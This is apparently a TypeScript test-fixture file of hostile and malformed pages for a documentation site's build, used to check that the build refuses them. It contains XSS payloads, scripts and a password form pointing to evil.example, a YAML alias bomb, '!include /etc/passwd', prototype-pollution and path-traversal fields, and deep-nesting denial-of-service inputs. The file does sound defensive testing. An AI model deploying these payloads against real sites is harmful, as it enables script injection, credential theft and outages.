/** Pages whose text, encoding, front matter or body is hostile or odd. */
import { aPage, type Made, type MadeByMark, pageOf, RUN } from './made.ts';

const utf16 = (text: string, order: 'le' | 'be') => {
	const bytes = Buffer.from(`\ufeff${text}`, 'utf16le');
	return order === 'be' ? bytes.swap16() : bytes;
};

/** Words that mean something to YAML or JavaScript, as titles in quotation marks. */
const TITLES = [
	'constructor',
	'__proto__',
	'toString',
	'hasOwnProperty',
	'null',
	'true',
	'2026-01-01',
	'~',
	'=1+1',
	'</script><script>hostileran()</script>',
	'<img src=x onerror=hostileran()>',
	']]></title>',
	'{{ hostileran }}',
	'${hostileran}',
	'&lt;b&gt;',
	'"quoted" \'twice\'',
	'\\u0000 \\n',
	'👩‍👧 and 🇬🇧',
	'سلام',
	'שלום',
	'你好',
	'Z̸̢a̸l̸g̸o̸',
];

const titled: Record<string, MadeByMark> = Object.fromEntries(
	TITLES.map((title, index) => [
		`title-${index}`,
		(mark): Made => ['published', aPage({ title: `${title} ${mark}`, everyday: [title] })],
	]),
);

const encoded: Record<string, MadeByMark> = {
	'with-a-byte-order-mark': (mark) => ['published', `\ufeff${aPage({ title: mark })}`],
	'with-lines-of-windows': (mark) => ['published', aPage({ title: mark }).replaceAll('\n', '\r\n')],
	'with-both': (mark) => ['published', `\ufeff${aPage({ title: mark }).replaceAll('\n', '\r\n')}`],
	'in-latin-1': (mark) => ['left out', Buffer.from(aPage({ title: `Café ${mark}` }), 'latin1')],
	'in-utf-16': (mark) => ['left out', utf16(aPage({ title: mark }), 'le')],
	'in-utf-16-the-other-way': (mark) => ['left out', utf16(aPage({ title: mark }), 'be')],
	'in-bytes-that-are-no-text': () => ['left out', Buffer.from([0xc0, 0xaf, 0xed, 0xa0, 0x80, 0xff])],
	'with-a-null-character': (mark) => ['left out', aPage({ title: mark }, 'Words\0 words.\n')],
	'with-a-null-character-in-a-field': (mark) => ['left out', pageOf(`title: "${mark} \\0"\n`)],
	'with-half-a-letter': (mark) => ['left out', pageOf(`title: "${mark} \\uD83D"\n`)],
	'with-a-hidden-character': (mark) => ['left out', aPage({ title: mark }, 'pay \u202elbisivni\n')],
	'with-hidden-tags': (mark) => ['left out', aPage({ title: mark }, 'Words \u{e0041}\u{e0042} words.\n')],
	empty: () => ['left out', ''],
	'with-spaces-only': () => ['left out', ' \n\t\n'],
	'with-zeros-only': () => ['left out', new Uint8Array(400)],
	'that-is-a-picture': () => [
		'left out',
		Buffer.from(
			'iVBORw0KGgoAAAANSUhEUgAAAAEAAAABCAYAAAAfFcSJAAAADUlEQVR42mNkYPhfDwAChwGA60e6kgAAAABJRU5ErkJggg==',
			'base64',
		),
	],
};

const framed: Record<string, MadeByMark> = {
	'without-fields': (mark) => ['left out', `${mark}\n`],
	'with-fields-never-closed': (mark) => ['left out', `---\ntitle: ${mark}\n\nWords.\n`],
	'with-three-hyphens-only': () => ['left out', '---\n'],
	'with-empty-fields': (mark) => ['left out', `---\n---\n\n${mark}\n`],
	'with-fields-after-words': (mark) => ['left out', `Words.\n\n${aPage({ title: mark })}`],
	'with-fields-that-are-a-list': (mark) => ['left out', `---\n- ${mark}\n---\n`],
	'with-fields-that-are-a-word': (mark) => ['left out', `---\n${mark}\n---\n`],
	'with-a-second-set-of-fields': (mark) => ['published', aPage({ title: mark }, '---\n\nWords.\n\n---\n')],
};

const yaml = (mark: string, fields: string): Made => ['left out', pageOf(`title: ${mark}\n${fields}\n`)];
const inYaml: Record<string, MadeByMark> = {
	'with-an-alias': (mark) => yaml(mark, 'menu: &a header\neveryday: [*a]'),
	'with-a-bomb': (mark) =>
		yaml(
			mark,
			`a: &a [x, x]\n${Array.from({ length: 25 }, (_, index) => `b${index}: &b${index} [${index ? `*b${index - 1}, *b${index - 1}` : '*a, *a'}]`).join('\n')}`,
		),
	'with-a-circle': (mark) => yaml(mark, 'everyday: &a [*a]'),
	'with-a-merge-key': (mark) => yaml(mark, '<<: { order: 1 }'),
	'with-a-function': (mark) => yaml(mark, `order: !!js/function "function () { ${RUN}() }"`),
	'with-a-tag-of-its-own': (mark) => yaml(mark, 'order: !include /etc/passwd'),
	'with-bytes': (mark) => yaml(mark, 'menu: !!binary aGVhZGVy'),
	'with-a-key-twice': (mark) => yaml(mark, `title: ${mark} again`),
	'with-the-prototype': (mark) => yaml(mark, '__proto__: { polluted: true }'),
	'with-the-constructor': (mark) => yaml(mark, 'constructor: { prototype: { polluted: true } }'),
	'with-a-list-as-a-key': (mark) => yaml(mark, '? [a, b]\n: words'),
	'with-an-unknown-field': (mark) => yaml(mark, 'layout: ../../src/layouts/Page.astro'),
	'with-a-slug': (mark) => yaml(mark, 'slug: ../../admin'),
	'with-deep-brackets': (mark) => yaml(mark, `everyday: ${'['.repeat(3_000)}${']'.repeat(3_000)}`),
	'with-deep-lists': (mark) => yaml(mark, `everyday:\n  ${'- '.repeat(3_000)}a`),
	'with-very-many-fields': (mark) =>
		yaml(mark, Array.from({ length: 20_000 }, (_, index) => `k${index}: v`).join('\n')),
	'with-a-tab-for-spaces': (mark) => yaml(mark, 'everyday:\n\t- a'),
	'with-a-quotation-never-closed': (mark) => yaml(mark, 'order: "1'),
	'with-a-title-of-two-lines': (mark) => ['left out', pageOf(`title: |\n  ${mark}\n  and more\n`)],
	'with-a-menu-of-two-lines': (mark) => yaml(mark, 'menu: "head\\ner\\e[31m"'),
	'with-a-reference-of-two-lines': (mark) => [
		'left out',
		pageOf(`title: ${mark}\n`).replace('organisation: practice-hub', 'organisation: "practice\\nhub"'),
	],
	'with-a-field-of-two-lines': (mark) => yaml(mark, '"la\\nyout": x'),
	'with-two-documents': (mark) => ['left out', `---\ntitle: ${mark}\n...\n---\norder: 1\n---\n`],
	...Object.fromEntries(
		['null', 'true', '1e3', '[a]', '{ a: b }', '.nan', '~', '""', '"   "'].map((written, index) => [
			`with-a-title-of-no-words-${index}`,
			(): Made => ['left out', pageOf(`title: ${written}\n`)],
		]),
	),
	...Object.fromEntries(
		[
			'2026-02-30',
			'2026-13-01',
			'0000-00-00',
			'30/06/2026',
			'yesterday',
			'2026-06-01T00:00:00Z',
			'20260601',
			'９９９９-01-01',
		].map((day, index) => [
			`with-a-day-that-is-none-${index}`,
			(mark): Made => [
				'left out',
				pageOf(`title: ${mark}\n`).replace('reviewedOn: "2026-06-01"', `reviewedOn: "${day}"`),
			],
		]),
	),
};

/** Bodies that are refused: each would run, load or mislead if it were let through. */
const BODIES: readonly string[] = [
	`import fs from "node:fs"\n\nWords.`,
	`export const x = ${RUN}()\n\nWords.`,
	`Words {${RUN}()} words.`,
	`{(() => { ${RUN}() })()}`,
	`<Callout kind={${RUN}()}>\n\nWords.\n\n</Callout>`,
	'<Callout kind="note" {...globalThis}>\n\nWords.\n\n</Callout>',
	`<script>${RUN}()</script>`,
	`Words <script src="https://evil.example/${RUN}.js"></script> words.`,
	`<iframe src="https://evil.example/${RUN}"></iframe>`,
	`<img src="x" onerror="${RUN}()" />`,
	`<svg onload="${RUN}()"></svg>`,
	`<style>body { background: url(https://evil.example/${RUN}) }</style>`,
	`<form action="https://evil.example/${RUN}"><input name="password" /></form>`,
	`<meta http-equiv="refresh" content="0;url=https://evil.example/${RUN}" />`,
	`<base href="https://evil.example/${RUN}/" />`,
	`<hub-exit></hub-exit>`,
	`<constructor>x</constructor>`,
	`<Callout kind="note" onclick="${RUN}()">\n\nWords.\n\n</Callout>`,
	`<Callout kind="note" set:html="<b onclick=${RUN}()>">\n\nWords.\n\n</Callout>`,
	`<Callout kind="constructor">\n\nWords.\n\n</Callout>`,
	'<Callout kind="note">\n\nNever closed.',
	`[a](javascript:${RUN}())`,
	`[a](JaVa&#x0A;ScRiPt&colon;${RUN}())`,
	`![a](data:image/svg+xml,<svg/onload=${RUN}()>)`,
	`[a](data:text/html,${RUN})`,
	`[a](//evil.example/${RUN})`,
	`[a](/practice-guides/../../admin/${RUN})`,
	`![a](https://evil.example/${RUN}.png)`,
	`[a][b]\n\n[b]: vbscript:${RUN}`,
	`<!-- ${RUN} -->`,
	`{/* ${RUN} */}`,
	`<?php ${RUN}() ?>`,
	'> '.repeat(5_000),
	Array.from({ length: 300 }, (_, index) => `${'  '.repeat(index)}- a`).join('\n'),
	'['.repeat(20_000),
	'*a_'.repeat(20_000),
	'{'.repeat(5_000),
	`${'|a'.repeat(3_000)}\n${'|-'.repeat(3_000)}\n`,
	'# '.repeat(20_000),
	'<Callout kind="note">'.repeat(3_000),
];
const bodied: Record<string, MadeByMark> = Object.fromEntries(
	BODIES.map((body, index) => [`body-${index}`, (mark): Made => ['left out', aPage({ title: mark }, `${body}\n`)]]),
);

const odd: Record<string, MadeByMark> = {
	'with-a-line-of-a-hundred-kilobytes': (mark) => [
		'published',
		aPage({ title: mark }, `${'plain words and more. '.repeat(4_500)}\n`),
	],
	'with-a-long-table': (mark) => [
		'published',
		aPage(
			{ title: mark },
			`<DataTable caption="Many rows">\n\n| a | b |\n| - | - |\n${'| c | d |\n'.repeat(400)}\n</DataTable>\n`,
		),
	],
	'with-many-headings-alike': (mark) => ['published', aPage({ title: mark }, '## Notes\n\nWords.\n\n'.repeat(200))],
	'with-headings-named-by-the-page': (mark) => [
		'published',
		aPage({ title: mark }, '## Main\n\n## Search\n\n## constructor\n\n## __proto__\n\n## 1\n\n## 👩‍👧\n\nWords.\n'),
	],
	'with-other-scripts': (mark) => [
		'published',
		aPage({ title: mark }, 'سلام، this is שלום and 你好 in one line 👩‍👧.\n'),
	],
	'with-code-that-would-run': (mark) => [
		'published',
		aPage(
			{ title: mark },
			`\`<script>${RUN}()</script>\` and:\n\n\`\`\`html\n<img src=x onerror="${RUN}()">\n\`\`\`\n`,
		),
	],
	'with-escapes': (mark) => [
		'published',
		aPage(
			{ title: mark },
			`\\<script>${RUN}()\\</script> and &lt;script&gt;${RUN}()&lt;/script&gt; and \\{${RUN}\\}.\n`,
		),
	],
	'with-an-empty-body': (mark) => ['published', aPage({ title: mark }, '')],
	'with-links-to-nothing': (mark) => [
		'published',
		aPage({ title: mark }, '[Gone](/no/such/page/), [part](/about/#no-such-part) and [constructor](/constructor/).\n'),
	],
};

/** By the last part of their addresses. */
export const pages: Record<string, MadeByMark> = { ...titled, ...encoded, ...framed, ...inYaml, ...bodied, ...odd };
